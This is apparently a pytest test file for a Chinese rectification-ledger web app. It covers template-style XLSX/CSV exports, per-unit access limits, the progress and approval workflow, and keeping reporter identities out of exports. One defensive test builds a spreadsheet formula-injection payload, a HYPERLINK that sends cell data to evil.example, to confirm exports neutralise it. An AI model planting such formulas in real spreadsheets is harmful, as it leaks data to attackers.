"""The rectification ledger: template XLSX, unit scoping, progress history, completion."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.dashboard.exports import csv_bytes, xlsx_bytes
from app.ledger import entries as ledger
from app.models import LedgerEntry, LedgerStatus, LedgerUpdate
from intake.models import Event
from tests.conftest import csrf_from
from tests.support.flow import unit_id
from tests.test_dashboard import REPORTER_NAMES, REPORTER_PHONES, build_world


@pytest.fixture
def world(app, db, campaign_id):
    return build_world(app, db, campaign_id)

TEMPLATE = ["序号", "问题类别", "具体表现", "整改措施", "责任单位", "整改时限",
            "整改进度及可验证成果", "问责情况"]


def _entries(db, campaign_id, make_user):
    tf = make_user("taskforce")
    a = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
                      symptom="乱罚款、滥收费", measures="废止违规收费文件", unit_id=unit_id(db, "hzq"),
                      deadline_text="9月30日前", accountability="对1名工作人员批评教育")
    b = ledger.create(db, tf, campaign_id=campaign_id, category="制度文件管理",
                      symptom="规范性文件违反上位法", measures="开展规范性文件清理",
                      unit_id=unit_id(db, "zfjd"), status="长期推进")
    db.commit()
    return tf, a, b


def test_xlsx_is_laid_out_like_the_template(client, login, make_user, db, campaign_id):
    _tf, a, b = _entries(db, campaign_id, make_user)
    login(make_user("taskforce"))
    response = client.get("/ledger/export?format=xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "道路交通安全和运输执法领域突出问题整改工作台账"
    assert "年" in sheet["A2"].value and "月" in sheet["A2"].value
    assert sheet["A3"].value.startswith("制定单位：")
    assert [c.value for c in sheet[4]] == TEMPLATE
    assert [c.value for c in sheet[5]][:6] == [1, "逐利执法", "乱罚款、滥收费", "废止违规收费文件",
                                              "湟中区交通运输局", "9月30日前"]
    assert sheet[5][7].value == "对1名工作人员批评教育"
    assert sheet.max_row == 6 and sheet.max_column == 8
    assert sheet["C5"].alignment.wrap_text and sheet["C5"].border.left.style == "thin"
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    extra = book.worksheets[1]
    assert [c.value for c in extra[1]][:3] == ["序号", "状态", "来源"]
    assert [c.value for c in extra[3]][:2] == [2, "长期推进"]
    csv_body = client.get("/ledger/export?format=csv").get_data(as_text=True)
    assert csv_body.lstrip("\ufeff").startswith(",".join(TEMPLATE))


def test_unit_sees_only_its_own_entries(client, login, make_user, db, campaign_id):
    _tf, a, b = _entries(db, campaign_id, make_user)
    login(make_user("unit", unit_code="hzq"))
    html = client.get("/ledger").get_data(as_text=True)
    assert "废止违规收费文件" in html and "开展规范性文件清理" not in html
    assert client.get(f"/ledger/{a.id}").status_code == 200
    assert client.get(f"/ledger/{b.id}").status_code == 403
    sheet = load_workbook(io.BytesIO(client.get("/ledger/export?format=xlsx").data)).active
    assert sheet.max_row == 5
    assert sheet["A3"].value == "制定单位：湟中区交通运输局"
    assert client.get("/ledger/new").status_code == 403
    token = csrf_from(html)
    assert client.post(f"/ledger/{b.id}/progress", data={
        "csrf_token": token, "progress": "x", "status": "整改中"}).status_code == 403
    assert client.post(f"/ledger/{a.id}/approve", data={"csrf_token": token}).status_code == 403


def test_unit_reports_progress_and_the_task_force_approves(client, login, make_user, db,
                                                           campaign_id):
    _tf, a, _b = _entries(db, campaign_id, make_user)
    unit_user = make_user("unit", unit_code="hzq")
    login(unit_user)
    page = client.get(f"/ledger/{a.id}").get_data(as_text=True)
    client.post(f"/ledger/{a.id}/progress", data={
        "csrf_token": csrf_from(page), "progress": "已下发通知停止收费", "status": "整改中"})
    client.post(f"/ledger/{a.id}/progress", data={
        "csrf_token": csrf_from(page), "progress": "已废止《关于XX收费的通知》，退还费用", "status": "已完成"})
    db.commit()
    db.expire_all()
    entry = db.get(LedgerEntry, a.id)
    assert entry.status is LedgerStatus.in_progress  # a unit cannot close it itself
    assert ledger.is_pending(db, entry)
    history = db.exec(select(LedgerUpdate).where(LedgerUpdate.entry_id == a.id)
                      .order_by(LedgerUpdate.id)).all()
    assert [u.progress for u in history][1:] == ["已下发通知停止收费", "已废止《关于XX收费的通知》，退还费用"]

    client.post("/logout", data={"csrf_token": csrf_from(page)})
    login(make_user("taskforce"))
    page = client.get(f"/ledger/{a.id}").get_data(as_text=True)
    assert "待销号审核" in page
    client.post(f"/ledger/{a.id}/approve", data={"csrf_token": csrf_from(page)})
    db.commit()
    db.expire_all()
    entry = db.get(LedgerEntry, a.id)
    assert entry.status is LedgerStatus.done and entry.completion_approved_at is not None
    kinds = set(db.exec(select(Event.kind).where(Event.kind.like("ledger_%"))))
    assert {"ledger_created", "ledger_progress", "ledger_approved"} <= kinds


def test_create_from_a_confirmed_reply_in_one_step(client, login, make_user, db, world):
    login(make_user("taskforce"))
    html = client.get("/ledger").get_data(as_text=True)
    r1 = world["reports"][0]
    assert r1.tracking_no in html  # listed as confirmed, not yet in the ledger
    response = client.post(f"/ledger/from-reply/{r1.id}", data={"csrf_token": csrf_from(html)})
    assert response.status_code == 302
    db.commit()
    db.expire_all()
    entry = db.exec(select(LedgerEntry)).one()
    assert entry.category == "执法规范化"            # checklist item 9's category
    assert entry.symptom.startswith("随意性执法")      # its group heading
    assert entry.unit_id == unit_id(db, "hzq") and entry.measures.startswith("已约谈")
    assert entry.deadline_text == "9月30日前"
    assert ledger.linked_reports(db, entry)[0].id == r1.id
    again = client.post(f"/ledger/from-reply/{r1.id}", data={"csrf_token": csrf_from(html)})
    assert again.status_code == 302
    assert len(db.exec(select(LedgerEntry)).all()) == 1
    body = client.get("/ledger/export?format=xlsx").data + client.get(
        "/ledger/export?format=csv").data
    for secret in REPORTER_NAMES + REPORTER_PHONES:
        assert secret.encode() not in body


def test_exports_keep_text_as_written_and_never_as_a_formula(client, login, make_user, db,
                                                              campaign_id):
    """The official template shows progress and 问责情况 exactly as written (no stray "'"
    before '-已约谈…'), each stored as a string cell, so text starting with = + - @ can never
    run as a formula. CSV, which spreadsheet programs interpret, keeps the "'" defence."""
    tf = make_user("taskforce")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
                          symptom="+乱罚款", measures="@废止文件", unit_id=unit_id(db, "hzq"),
                          accountability=formula)
    ledger.add_progress(db, tf, entry.id, progress="-已约谈2名执法人员", status="整改中")
    db.commit()
    login(tf)
    book = load_workbook(io.BytesIO(client.get("/ledger/export?format=xlsx").data))
    sheet = book.worksheets[0]
    assert sheet["G5"].value == "-已约谈2名执法人员"
    assert sheet["H5"].value == formula
    assert (sheet["C5"].value, sheet["D5"].value) == ("+乱罚款", "@废止文件")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {sheet[k].data_type for k in ("B5", "C5", "D5", "E5", "G5", "H5")} == {"s"}
    csv_body = client.get("/ledger/export?format=csv").get_data(as_text=True)
    assert "'-已约谈2名执法人员" in csv_body and "'=HYPERLINK" in csv_body
    assert "'+乱罚款" in csv_body and "'@废止文件" in csv_body


def test_list_exports_store_text_as_strings():
    """The shared list export (search results, dashboard tables): XLSX text as written in
    string cells, numbers as numbers; CSV text that a spreadsheet would run gets a "'"."""
    rows = [("=1+1", "#N/A", "-5天", 3), ("\t=cmd", "正常", None, 2.5)]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c", "d"], rows))).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["=1+1", "#N/A", "-5天", 3], ["\t=cmd", "正常", None, 2.5]]
    assert [c.data_type for c in sheet[2]] == ["s", "s", "s", "n"]
    body = csv_bytes(["a", "b", "c", "d"], rows).decode("utf-8-sig").splitlines()
    assert body[1:] == ["'=1+1,#N/A,'-5天,3", "'\t=cmd,正常,,2.5"]


def test_an_outside_body_cannot_be_the_responsible_unit(make_user, db, campaign_id):
    tf = make_user("taskforce")
    police = unit_id(db, "jjzd")
    with pytest.raises(ledger.LedgerError):
        ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法", symptom="乱罚款",
                      measures="废止文件", unit_id=police)
    entry = ledger.create(db, tf, campaign_id=campaign_id, category="逐利执法",
                          symptom="乱罚款", measures="废止文件", unit_id=unit_id(db, "hzq"))
    with pytest.raises(ledger.LedgerError):
        ledger.edit(db, tf, entry.id, unit_id=str(police))
    db.rollback()
